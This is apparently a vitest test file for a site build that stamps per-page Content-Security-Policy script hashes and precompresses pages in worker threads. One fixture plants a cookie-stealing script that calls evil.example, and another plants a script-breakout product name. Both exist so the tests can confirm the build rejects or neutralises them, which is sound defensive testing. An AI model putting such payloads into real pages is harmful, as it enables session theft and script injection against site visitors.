import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { availableParallelism, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { untilWithoutYielding } from '#tests/support/turnless.ts';
import { BROTLI_MIN_BYTES, precompress, startCompressing } from './precompress.ts';
import { scriptHash, secureSite } from './site-csp.ts';

let site: string;
const write = (path: string, content: string) => {
  mkdirSync(dirname(join(site, path)), { recursive: true });
  writeFileSync(join(site, path), content);
};

beforeAll(() => {
  site = mkdtempSync(join(tmpdir(), 'site-csp-test-'));
});
afterAll(() => rmSync(site, { recursive: true, force: true }));

/** The scripts these tests' pages carry, as the build's own (own-scripts.ts). */
const ownScripts = new Set(['a()', 'b()', 'c()'].map((script) => scriptHash(script)));

describe('secureSite', () => {
  test("puts in each page a policy with its own inline scripts' hashes, and all of them in _headers", async () => {
    write('index.html', '<!doctype html><html><head><meta charset="utf-8"><script>a()</script></head></html>');
    write('about/index.html', '<!doctype html><html><head><meta charset="utf-8"><script>b()</script></head></html>');
    const { pages, scriptHashes } = await secureSite(site, { ownScripts, connectOrigins: ['https://api.example.com'] });
    expect(pages).toBe(2);
    expect(scriptHashes).toEqual([scriptHash('a()'), scriptHash('b()')].sort());
    for (const [page, own, other] of [
      ['index.html', 'a()', 'b()'],
      ['about/index.html', 'b()', 'a()'],
    ] as const) {
      const html = readFileSync(join(site, page), 'utf8');
      expect(html).toMatch(
        /^<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="default-src 'self'; script-src 'self' 'sha256-/,
      );
      expect(html).toContain(`script-src 'self' ${scriptHash(own)};`);
      expect(html).not.toContain(scriptHash(other));
      expect(html).toContain("connect-src 'self' https://api.example.com");
    }
    const headers = readFileSync(join(site, '_headers'), 'utf8');
    expect(headers).toContain(`script-src 'self' ${scriptHashes.join(' ')};`);
    expect(headers).toContain("frame-ancestors 'none'");
    expect(headers).toContain('/_astro/*\n  Cache-Control: public, max-age=31536000, immutable');
  });
});

describe('secureSite on a kept staging tree', () => {
  test('rewrites only the pages a build wrote; a new script changes its page and _headers, not the others', async () => {
    const dir = join(site, 'staged');
    const page = (script: string) =>
      `<!doctype html><html><head><meta charset="utf-8"><script>${script}</script></head></html>`;
    write('staged/a/index.html', page('a()'));
    write('staged/b/index.html', page('b()'));
    const stateFile = join(site, 'policy.json');
    await secureSite(dir, { ownScripts, stateFile });
    const kept = readFileSync(join(dir, 'b/index.html'), 'utf8');

    write('staged/a/index.html', page('a()'));
    const again = await secureSite(dir, { ownScripts, stateFile, only: [join(dir, 'a/index.html')] });
    expect(again.pages).toBe(1);
    expect(readFileSync(join(dir, 'a/index.html'), 'utf8').split('http-equiv="content-security-policy"')).toHaveLength(
      2,
    );
    expect(readFileSync(join(dir, 'b/index.html'), 'utf8')).toBe(kept);

    write('staged/a/index.html', page('c()'));
    const widened = await secureSite(dir, { ownScripts, stateFile, only: [join(dir, 'a/index.html')] });
    expect(widened.pages).toBe(1);
    expect(readFileSync(join(dir, 'a/index.html'), 'utf8')).toContain(`script-src 'self' ${scriptHash('c()')};`);
    expect(readFileSync(join(dir, 'b/index.html'), 'utf8')).toBe(kept);
    // _headers lists what it listed and the new hash; a pass over every page lists only what pages carry.
    expect(widened.scriptHashes).toEqual([scriptHash('a()'), scriptHash('b()'), scriptHash('c()')].sort());
    expect(readFileSync(join(dir, '_headers'), 'utf8')).toContain(scriptHash('c()'));
    const whole = await secureSite(dir, { ownScripts, stateFile });
    expect(whole.pages).toBe(2);
    expect(whole.scriptHashes).toEqual([scriptHash('b()'), scriptHash('c()')].sort());
  });
});

describe('secureSite and scripts the build does not make', () => {
  const page = (...scripts: string[]) =>
    `<!doctype html><html><head><meta charset="utf-8">${scripts.map((s) => `<script>${s}</script>`).join('')}</head></html>`;

  test("stops at a page carrying an inline script that is not the build's own, naming the page and the script", async () => {
    const dir = join(site, 'injected');
    write('injected/a/index.html', page('a()'));
    write('injected/product/9-laser/index.html', page('b()', 'fetch("https://evil.example/?"+document.cookie)'));
    await expect(secureSite(dir, { ownScripts })).rejects.toThrow(
      /^\/product\/9-laser\/index\.html carries an inline script the build does not make \('sha256-[^']+': "fetch\(\\"https:\/\/evil\.example/,
    );
    expect(readFileSync(join(dir, 'product/9-laser/index.html'), 'utf8')).not.toContain('content-security-policy');
  });

  test("takes a script's letters in an attribute's value for what they are, text: a hostile product name passes", async () => {
    const dir = join(site, 'hostile-name');
    const name = '</script><script>window.pwned=1</script>';
    write('hostile-name/index.html', page('a()').replace('</head>', `</head><body><img alt="${name}"></body>`));
    const { scriptHashes } = await secureSite(dir, { ownScripts });
    expect(scriptHashes).toEqual([scriptHash('a()')]);
  });

  test('reads every page again when the kept policy lists a hash the build does not make', async () => {
    const dir = join(site, 'kept-foreign');
    write('kept-foreign/a/index.html', page('a()'));
    write('kept-foreign/b/index.html', page('b()'));
    const stateFile = join(site, 'kept-foreign-policy.json');
    // A policy kept from before scripts were checked: it lists one that no page of the build makes.
    writeFileSync(
      stateFile,
      JSON.stringify({ scriptHashes: [scriptHash('x()'), scriptHash('a()')], connectOrigins: [] }),
    );
    const again = await secureSite(dir, { ownScripts, stateFile, only: [join(dir, 'a/index.html')] });
    expect(again.pages).toBe(2);
    expect(again.scriptHashes).toEqual([scriptHash('a()'), scriptHash('b()')].sort());
    expect(readFileSync(join(dir, '_headers'), 'utf8')).not.toContain(scriptHash('x()'));
  });
});

describe('precompress', () => {
  test('writes compressed copies of large text files only, newer than the file: brotli for large files and assets', async () => {
    const text = '<p>Raman spectrometers and probe stations.</p>'.repeat(200);
    const large = '<p>Raman spectrometers and probe stations.</p>'.repeat(2000);
    const asset = 'export const spectrometer = "Raman";\n'.repeat(100);
    write('big/index.html', text);
    write('list/index.html', large);
    write('_astro/island.Ab12Cd.js', asset);
    write('small.txt', 'tiny');
    write('photo.webp', 'x'.repeat(5000));
    const totals = await precompress(site);
    expect(totals.files).toBeGreaterThanOrEqual(3);
    // A page under BROTLI_MIN_BYTES: gzip only.
    expect(text.length).toBeLessThan(BROTLI_MIN_BYTES);
    expect(gunzipSync(readFileSync(join(site, 'big/index.html.gz'))).toString()).toBe(text);
    expect(() => statSync(join(site, 'big/index.html.br'))).toThrow();
    expect(statSync(join(site, 'big/index.html.gz')).mtimeMs).toBeGreaterThanOrEqual(
      statSync(join(site, 'big/index.html')).mtimeMs,
    );
    // A larger page, and a hashed asset of any size: both.
    expect(large.length).toBeGreaterThanOrEqual(BROTLI_MIN_BYTES);
    expect(brotliDecompressSync(readFileSync(join(site, 'list/index.html.br'))).toString()).toBe(large);
    expect(gunzipSync(readFileSync(join(site, 'list/index.html.gz'))).toString()).toBe(large);
    expect(brotliDecompressSync(readFileSync(join(site, '_astro/island.Ab12Cd.js.br'))).toString()).toBe(asset);
    expect(() => statSync(join(site, 'small.txt.gz'))).toThrow();
    expect(() => statSync(join(site, 'photo.webp.gz'))).toThrow();
  });

  test('with the files a build wrote, drops the copies a file no longer gets', async () => {
    write('again/index.html', '<p>Interferometers.</p>'.repeat(3000));
    await precompress(site);
    expect(statSync(join(site, 'again/index.html.br')).isFile()).toBe(true);
    // Smaller than BROTLI_MIN_BYTES now: its brotli copy goes, its gzip copy is made again.
    write('again/index.html', '<p>Interferometers.</p>'.repeat(200));
    await precompress(site, [join(site, 'again/index.html')]);
    expect(() => statSync(join(site, 'again/index.html.br'))).toThrow();
    expect(gunzipSync(readFileSync(join(site, 'again/index.html.gz'))).toString()).toBe(
      '<p>Interferometers.</p>'.repeat(200),
    );
    write('again/index.html', 'now small');
    await precompress(site, [join(site, 'again/index.html')]);
    expect(() => statSync(join(site, 'again/index.html.br'))).toThrow();
    expect(() => statSync(join(site, 'again/index.html.gz'))).toThrow();
  });

  test('shares many files among worker threads, with the same copies and totals', async () => {
    const files = Array.from({ length: 240 }, (_, i) => {
      const path = `many/${i}/index.html`;
      write(path, `<p>Spectrometer ${i}: Raman, fluorescence and FTIR.</p>`.repeat(40 + i));
      return join(site, path);
    });
    write('many/tiny/index.html', 'small');
    const totals = await precompress(site, [...files, join(site, 'many/tiny/index.html')]);
    expect(totals.files).toBe(240);
    expect(totals.threads).toBe(availableParallelism());
    for (const file of [files[0], files[239]] as string[]) {
      expect(gunzipSync(readFileSync(`${file}.gz`)).equals(readFileSync(file))).toBe(true);
    }
    expect(totals.gzip).toBe(files.reduce((sum, file) => sum + statSync(`${file}.gz`).size, 0));
    expect(totals.br).toBe(0);
    expect(() => statSync(join(site, 'many/tiny/index.html.gz'))).toThrow();
  });

  test("leaves a hashed asset's copies from an earlier build, and makes those it lacks", async () => {
    const script = 'export const spectrometer = () => "Raman";\n'.repeat(100);
    write('_astro/app.B1x2y3.js', script);
    write('_astro/new.C4d5e6.js', script);
    await precompress(site, [join(site, '_astro/app.B1x2y3.js')]);
    const made = statSync(join(site, '_astro/app.B1x2y3.js.br')).mtimeMs;
    // Vite writes it again, the same bytes under the same name.
    write('_astro/app.B1x2y3.js', script);
    await precompress(site, [join(site, '_astro/app.B1x2y3.js'), join(site, '_astro/new.C4d5e6.js')]);
    expect(statSync(join(site, '_astro/app.B1x2y3.js.br')).mtimeMs).toBe(made);
    expect(brotliDecompressSync(readFileSync(join(site, '_astro/new.C4d5e6.js.br'))).toString()).toBe(script);
  });

  test('compresses bytes as they are given, in threads, before their file or folder exists', async () => {
    const compressing = startCompressing({ threads: 2 });
    const pages = Array.from({ length: 30 }, (_, i) => [
      join(site, `streamed/${i}/index.html`),
      Buffer.from(`<p>Probe station ${i}: wafer-level I-V and C-V.</p>`.repeat(60 + i)),
    ]) as [string, Buffer][];
    for (const [file, data] of pages) expect(compressing.add(file, data)).toBe(true);
    expect(compressing.add(join(site, 'streamed/small.txt'), Buffer.from('tiny'))).toBe(true);
    const totals = await compressing.done();
    expect(totals).toMatchObject({ files: 30, threads: 2 });
    for (const [file, data] of pages) {
      expect(gunzipSync(readFileSync(`${file}.gz`)).equals(data)).toBe(true);
      expect(() => statSync(`${file}.br`)).toThrow();
    }
    expect(totals.gzip).toBe(pages.reduce((sum, [file]) => sum + statSync(`${file}.gz`).size, 0));
    expect(() => statSync(join(site, 'streamed/small.txt.gz'))).toThrow();
    expect([...compressing.files]).toHaveLength(31);
  });

  test('gives its threads many files a message, and the few left on its next turn; moved bytes are not copied', async () => {
    const compressing = startCompressing({ threads: 2 });
    const page = (i: number) => Buffer.from(`<p>Objective lens ${i}: 40x, NA 0.95.</p>`.repeat(40 + i));
    const first = new Uint8Array(page(0));
    expect(compressing.add(join(site, 'batched/first/index.html'), first, true, true)).toBe(true);
    // Not flushed: it goes to the thread on this thread's next turn. The thread writes the copy in place, so
    // the file can exist before its last bytes do: wait for a whole copy, not for the name.
    const whole = () => {
      try {
        return gunzipSync(readFileSync(join(site, 'batched/first/index.html.gz'))).length > 0;
      } catch {
        return false;
      }
    };
    for (let wait = 0; wait < 100 && !whole(); wait++) {
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    // Moved, not copied: the caller's view is emptied.
    expect(first.byteLength).toBe(0);
    expect(gunzipSync(readFileSync(join(site, 'batched/first/index.html.gz'))).equals(page(0))).toBe(true);
    const files = Array.from({ length: 150 }, (_, i) => join(site, `batched/${i + 1}/index.html`));
    for (const [i, file] of files.entries()) {
      expect(compressing.add(file, new Uint8Array(page(i + 1)), true, true)).toBe(true);
    }
    await compressing.flush();
    for (const [i, file] of files.entries()) {
      expect(readFileSync(file).equals(page(i + 1))).toBe(true);
      expect(gunzipSync(readFileSync(`${file}.gz`)).equals(page(i + 1))).toBe(true);
    }
    expect(await compressing.done()).toMatchObject({ files: 151, threads: 2 });
  });

  test('with its threads still running, shares files on disk between them and the calling thread', async () => {
    const compressing = startCompressing({ threads: 1 });
    const page = Buffer.from('<p>Spectrometer: Raman, fluorescence and FTIR.</p>'.repeat(80));
    expect(compressing.add(join(site, 'shared/streamed/index.html'), page, true)).toBe(true);
    await compressing.flush();
    // Flushed: the page and its copy are on disk before the threads end.
    expect(gunzipSync(readFileSync(join(site, 'shared/streamed/index.html.gz'))).equals(page)).toBe(true);
    const files = Array.from({ length: 220 }, (_, i) => {
      const path = `shared/${i}/index.html`;
      write(path, `<p>Probe station ${i}: wafer-level I-V and C-V.</p>`.repeat(30 + i));
      return join(site, path);
    });
    const totals = await precompress(site, files, compressing);
    expect(totals).toMatchObject({ files: 220, threads: 2 });
    for (const file of files) expect(gunzipSync(readFileSync(`${file}.gz`)).equals(readFileSync(file))).toBe(true);
    expect(totals.gzip).toBe(files.reduce((sum, file) => sum + statSync(`${file}.gz`).size, 0));
    // The streamed page only, not the shared files again.
    expect(await compressing.done()).toMatchObject({ files: 1, threads: 1 });
    await expect(compressing.flush()).rejects.toThrow();
  });

  test("takes bytes again once its threads have done them, with no turn of the caller's event loop", async () => {
    // Over GIVEN_BYTES: posted at once. The caller then never yields, as a thread rendering pages seldom does.
    const data = Buffer.from('<p>Raman spectrometer, 785 nm excitation.</p>'.repeat(30_000));
    const compressing = startCompressing({ threads: 1, maxWaiting: data.length - 1 });
    expect(compressing.add(join(site, 'turnless/1.html'), data, true)).toBe(true);
    const taken = untilWithoutYielding(() => compressing.add(join(site, 'turnless/2.html'), data, true), 10);
    expect(taken).toBe(true);
    await compressing.done();
    expect(gunzipSync(readFileSync(join(site, 'turnless/2.html.gz'))).equals(data)).toBe(true);
  });

  test('declines bytes while its threads are behind, and reports a thread that failed', async () => {
    const behind = startCompressing({ threads: 1, maxWaiting: 0 });
    const data = Buffer.from('<p>Fluorescence spectrometer.</p>'.repeat(100));
    expect(behind.add(join(site, 'behind/1.html'), data)).toBe(true);
    expect(behind.add(join(site, 'behind/2.html'), data)).toBe(false);
    expect(behind.files).toEqual(new Set([join(site, 'behind/1.html')]));
    await behind.done();

    write('blocked', 'a file where a folder should be');
    const failing = startCompressing({ threads: 1 });
    failing.add(join(site, 'blocked/index.html'), data);
    await expect(failing.done()).rejects.toThrow(/ENOTDIR|EEXIST/);
  });
});
